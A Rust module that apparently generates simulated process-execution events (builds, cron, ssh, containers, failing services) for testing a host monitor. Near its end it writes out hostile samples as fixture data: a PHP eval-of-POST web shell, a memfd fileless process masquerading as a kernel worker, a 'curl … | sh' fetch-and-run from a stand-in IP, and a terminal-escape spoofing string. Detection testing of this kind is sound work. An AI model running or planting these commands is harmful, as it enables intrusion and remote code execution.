//! What is played in each minute: a build, cron, a session over ssh, containers, a service that fails and is
//! started again and again, a search along PATH, a storm with losses, and a program that lies in memory only.

use super::stage::{Actor, Fate, Stage, Who};
use crate::event::{Args, Capture, Exec, Flags, Running, Status};

const ENOENT: i32 = 2;
const EACCES: i32 = 13;

/// The containers: their names and the ids in their control groups.
const WEB: &str =
    "/system.slice/docker-3f1b9e0c5a7d42e8b6c09f15d2a4e7813f1b9e0c5a7d42e8b6c09f15d2a4e781.scope";
const WORKER: &str = "/kubepods.slice/kubepods-pod1c2d.slice/cri-containerd-77ab01cd23ef45670918a2b3c4d5e6f777ab01cd23ef45670918a2b3c4d5e6f7.scope";

/// Adds the processes that run all the time.
pub(super) fn cast(stage: &mut Stage) -> Vec<Running> {
    vec![
        stage.add(
            "systemd",
            1,
            0,
            0,
            &["/usr/lib/systemd/systemd", "--system"],
        ),
        stage.add("sshd", 812, 1, 0, &["sshd: /usr/sbin/sshd -D [listener]"]),
        stage.add("cron", 640, 1, 0, &["/usr/sbin/cron", "-f"]),
        stage.add(
            "containerd-shim",
            1190,
            1,
            0,
            &["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby"],
        ),
        stage.add("nginx", 1214, 1190, 33, &["nginx: master process"]),
        stage.add("python3", 1377, 1190, 33, &["python3", "-m", "worker"]),
        stage.add("bash", 1710, 812, 1000, &["-bash"]),
        stage.add(
            "gitlab-runner",
            990,
            1,
            999,
            &["/usr/bin/gitlab-runner", "run"],
        ),
    ]
}

/// Plays a minute.
pub(super) fn minute(stage: &mut Stage, minute: u64) {
    stage.begin(minute);
    build(stage);
    cron(stage);
    ssh(stage);
    containers(stage);
    failing_service(stage);
    at_the_shell(stage);
    storm(stage);
    in_memory(stage);
}

fn build(stage: &mut Stage) {
    let who = Who::new(
        999,
        "/builds/acme/shop",
        None,
        "/system.slice/gitlab-runner.service",
    );
    let runner = stage.actor("gitlab-runner");
    let shell = stage.run(
        1_000,
        &runner,
        &who,
        &["/usr/bin/bash", "-eo", "pipefail", "-c", "make -j8 all"],
        Fate::well(33_000),
    );
    let make = stage.run(
        1_040,
        &shell,
        &who,
        &["/usr/bin/make", "-j8", "all"],
        Fate::busy(32_500, 9_000).ending(Status::Code(2)),
    );
    let names = [
        "cart", "user", "tax", "stock", "mail", "auth", "ship", "log",
    ];
    for unit in 0..48_u64 {
        let name = names
            .get(unit as usize % names.len())
            .copied()
            .unwrap_or("main");
        let source = format!("src/{name}{}.c", unit / 8);
        let object = format!("{name}{}.o", unit / 8);
        let at = 1_200 + unit / 8 * 5_000 + stage.below(600);
        let took = 900 + stage.below(3_500);
        let (crash, error) = (unit == 29, unit == 44);
        let status = if crash || error {
            Status::Code(1)
        } else {
            Status::Code(0)
        };
        let gcc = [
            "/usr/bin/gcc",
            "-O2",
            "-g",
            "-Iinclude",
            "-c",
            &source,
            "-o",
            &object,
        ];
        let gcc = stage.run(at, &make, &who, &gcc, Fate::well(took + 60).ending(status));
        let how = match (crash, error) {
            (true, _) => Status::Signal {
                number: 11,
                core_dumped: true,
            },
            (_, true) => Status::Code(1),
            _ => Status::Code(0),
        };
        let cc1 = [
            "/usr/libexec/gcc/x86_64-linux-gnu/14/cc1",
            "-quiet",
            "-Iinclude",
            &source,
            "-O2",
            "-o",
            "/tmp/cc8fWq.s",
        ];
        stage.run(
            at + 4,
            &gcc,
            &who,
            &cc1,
            Fate::busy(took - 60, 88_000).ending(how),
        );
        if !crash && !error {
            stage.run(
                at + took,
                &gcc,
                &who,
                &["/usr/bin/as", "--64", "-o", &object, "/tmp/cc8fWq.s"],
                Fate::busy(40, 14_000),
            );
        }
    }
    // A command line that is longer than what is captured of it.
    let mut link = stage.fork(31_500, &make);
    let objects: Vec<_> = (0..900).map(|n| format!("obj/part{n:04}.o")).collect();
    let mut args = vec!["/usr/bin/ar", "rcs", "libshop.a"];
    args.extend(objects.iter().map(String::as_str));
    let exec = stage.exec_of(&link, &make, &who, &args);
    let bytes = exec.args.bytes.get(..4_096).unwrap_or_default();
    let args = Args {
        bytes: bytes.into(),
        capture: Capture::Truncated,
        ..exec.args.clone()
    };
    link.comm = exec.comm;
    let exec_ns = exec.time_ns;
    stage.play(Exec { args, ..exec });
    stage.end(&link, exec_ns, Fate::busy(420, 21_000));
}

fn cron(stage: &mut Stage) {
    let who = Who::new(0, "/root", None, "/system.slice/cron.service");
    let cron = stage.actor("cron");
    for round in 0..3 {
        let at = round * 20_000 + 100;
        let shell = stage.run(
            at,
            &cron,
            &who,
            &[
                "/bin/sh",
                "-c",
                "cd / && run-parts --report /etc/cron.hourly",
            ],
            Fate::well(900),
        );
        let parts = stage.run(
            at + 8,
            &shell,
            &who,
            &["/usr/bin/run-parts", "--report", "/etc/cron.hourly"],
            Fate::well(860),
        );
        for (n, name) in ["logrotate", "man-db", "backup"].into_iter().enumerate() {
            let path = format!("/etc/cron.hourly/{name}");
            let at = at + 20 + n as u64 * 250;
            let script = stage.script(at, &parts, &who, "/bin/sh", &path, Fate::well(230));
            stage.run(
                at + 5,
                &script,
                &who,
                &[
                    "/usr/bin/find",
                    "/var/log",
                    "-name",
                    "*.gz",
                    "-mtime",
                    "+14",
                ],
                Fate::busy(180, 4_800),
            );
        }
    }
}

fn ssh(stage: &mut Stage) {
    let root = Who::new(0, "/", None, "/system.slice/ssh.service");
    let alice = Who::new(
        1000,
        "/home/alice/src",
        Some("pts/3"),
        "/user.slice/user-1000.slice/session-4.scope",
    );
    let sshd = stage.actor("sshd");
    let session = stage.run(
        2_000,
        &sshd,
        &root,
        &["/usr/sbin/sshd", "-D", "-R"],
        Fate::well(50_000),
    );
    let bash = stage.run(2_400, &session, &alice, &["-bash"], Fate::well(49_000));
    stage.run(
        5_000,
        &bash,
        &alice,
        &["/usr/bin/git", "status", "--short", "--branch"],
        Fate::busy(38, 9_800),
    );
    let grep = ["/usr/bin/grep", "-rn", "unwrap()", "src/"];
    stage.run(
        9_000,
        &bash,
        &alice,
        &grep,
        Fate::busy(700, 2_600).ending(Status::Code(1)),
    );
    // Of another user, once it runs.
    let mut actor = stage.fork(14_000, &bash);
    let mut exec = stage.exec_of(
        &actor,
        &bash,
        &alice,
        &["/usr/bin/sudo", "systemctl", "restart", "shop"],
    );
    exec.euid = Some(0);
    exec.flags.set(Flags::SETUID, true);
    exec.flags.set(Flags::CAPS, true);
    actor.comm = exec.comm;
    let exec_ns = exec.time_ns;
    stage.play(exec);
    stage.end(&actor, exec_ns, Fate::well(640));
    let as_root = Who {
        uid: 0,
        ..alice.clone()
    };
    stage.run(
        14_200,
        &actor,
        &as_root,
        &["/usr/bin/systemctl", "restart", "shop"],
        Fate::well(410),
    );
    stage.run(
        20_000,
        &bash,
        &alice,
        &["/usr/bin/vim", "src/cart.c"],
        Fate::well(24_000),
    );
    let hostile = ["/usr/bin/printf", "\u{1b}]0;owned\u{7}\u{202e}gpj.exe"];
    stage.run(46_000, &bash, &alice, &hostile, Fate::well(2));
}

fn containers(stage: &mut Stage) {
    let mut web = Who::new(33, "/", None, WEB);
    web.namespaces = (4_026_532_711, 4_026_532_709);
    let mut worker = Who::new(33, "/app", None, WORKER);
    worker.namespaces = (4_026_532_815, 4_026_532_813);
    let shim = stage.actor("containerd-shim");
    for round in 0..12 {
        let at = 700 + round * 5_000;
        let check = [
            "/bin/sh",
            "-c",
            "curl -fsS http://localhost:8080/health || exit 1",
        ];
        let failed = round == 7;
        let status = if failed {
            Status::Code(1)
        } else {
            Status::Code(0)
        };
        let shell = stage.run(at, &shim, &web, &check, Fate::well(46).ending(status));
        let curl = if failed {
            Status::Code(7)
        } else {
            Status::Code(0)
        };
        stage.run(
            at + 6,
            &shell,
            &web,
            &["/usr/bin/curl", "-fsS", "http://localhost:8080/health"],
            Fate::well(31).ending(curl),
        );
    }
    let python = stage.actor("python3");
    for job in 0..9 {
        let at = 3_000 + job * 6_100;
        let input = format!("/spool/{:05}.mov", 300 + job);
        let args = [
            "/usr/bin/ffmpeg",
            "-loglevel",
            "error",
            "-i",
            &input,
            "-vf",
            "scale=1280:-2",
            "/spool/out.mp4",
        ];
        let (status, rss) = match job {
            5 => (
                Status::Signal {
                    number: 9,
                    core_dumped: false,
                },
                1_900_000,
            ),
            _ => (Status::Code(0), 310_000),
        };
        stage.run(
            at,
            &python,
            &worker,
            &args,
            Fate::busy(4_200, rss).ending(status),
        );
    }
}

fn failing_service(stage: &mut Stage) {
    let who = Who::new(1001, "/srv/shop", None, "/system.slice/shop-report.service");
    let systemd = stage.actor("systemd");
    for round in 0..24 {
        let at = 500 + round * 2_500;
        if round % 6 == 5 {
            let actor = stage.fork(at, &systemd);
            stage.fail(
                &actor,
                &systemd,
                &who,
                60,
                EACCES,
                &["/srv/shop/bin/report", "--daily"],
            );
            continue;
        }
        let main = stage.script(
            at,
            &systemd,
            &who,
            "/usr/bin/python3",
            "/srv/shop/bin/report",
            Fate::busy(180, 18_000).ending(Status::Code(1)),
        );
        let actor = stage.fork(at + 120, &main);
        stage.fail(
            &actor,
            &main,
            &who,
            30,
            ENOENT,
            &["/opt/oracle/bin/sqlplus", "-S", "/nolog"],
        );
    }
}

/// Someone at a shell: a name is looked for along PATH.
fn at_the_shell(stage: &mut Stage) {
    let who = Who::new(
        1000,
        "/home/alice",
        Some("pts/1"),
        "/user.slice/user-1000.slice/session-2.scope",
    );
    let bash = stage.actor("bash");
    for round in 0..6_u64 {
        let at = 4_300 + round * 9_000;
        let mut actor = stage.fork(at, &bash);
        let places = [
            "/home/alice/.cargo/bin",
            "/home/alice/bin",
            "/usr/local/sbin",
            "/usr/local/bin",
            "/usr/sbin",
        ];
        for (n, place) in places.into_iter().enumerate() {
            let path = format!("{place}/rg");
            stage.fail(
                &actor,
                &bash,
                &who,
                n as u64 * 12,
                ENOENT,
                &[&path, "-n", "fn main"],
            );
        }
        let exec = stage.exec_of(&actor, &bash, &who, &["/usr/bin/rg", "-n", "fn main"]);
        actor.comm = exec.comm;
        let exec_ns = exec.time_ns;
        stage.play(exec);
        stage.end(&actor, exec_ns, Fate::busy(25, 7_400));
    }
}

/// Someone's loop: more than can be captured.
fn storm(stage: &mut Stage) {
    let who = Who::new(
        1001,
        "/home/bob",
        Some("pts/5"),
        "/user.slice/user-1001.slice/session-9.scope",
    );
    let sshd = stage.actor("sshd");
    let script = "while read -r id; do test -e \"data/$id\" || touch \"data/$id\"; done <ids";
    let shell = stage.run(
        38_000,
        &sshd,
        &who,
        &["/bin/bash", "-c", script],
        Fate::busy(3_100, 3_900),
    );
    for n in 0..600_u64 {
        let path = format!("data/{n:06}");
        stage.run(
            38_100 + n * 5,
            &shell,
            &who,
            &["/usr/bin/touch", &path],
            Fate::well(1),
        );
    }
    stage.lose(39_480, 214);
}

/// A program without a file.
fn in_memory(stage: &mut Stage) {
    let mut who = Who::new(33, "/var/www/html/uploads", None, WEB);
    who.namespaces = (4_026_532_711, 4_026_532_709);
    let nginx = stage.actor("nginx");
    let php = ["/usr/bin/php", "-r", "eval(base64_decode($_POST['q']));"];
    let php: Actor = stage.run(51_000, &nginx, &who, &php, Fate::busy(6_500, 24_000));
    let mut actor = stage.fork(51_300, &php);
    let mut exec = stage.exec_of(&actor, &php, &who, &["[kworker/2:1]"]);
    exec.filename = Some(b"/proc/self/fd/9"[..].into());
    exec.exe = Some(b"/memfd:x"[..].into());
    exec.comm = "9".into();
    for flag in [Flags::MEMFD, Flags::DELETED, Flags::FD] {
        exec.flags.set(flag, true);
    }
    actor.comm = exec.comm;
    let exec_ns = exec.time_ns;
    stage.play(exec);
    stage.end(
        &actor,
        exec_ns,
        Fate::busy(5_800, 41_000).ending(Status::Signal {
            number: 15,
            core_dumped: false,
        }),
    );
    stage.run(
        52_000,
        &actor,
        &who,
        &["/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh"],
        Fate::well(900),
    );
}
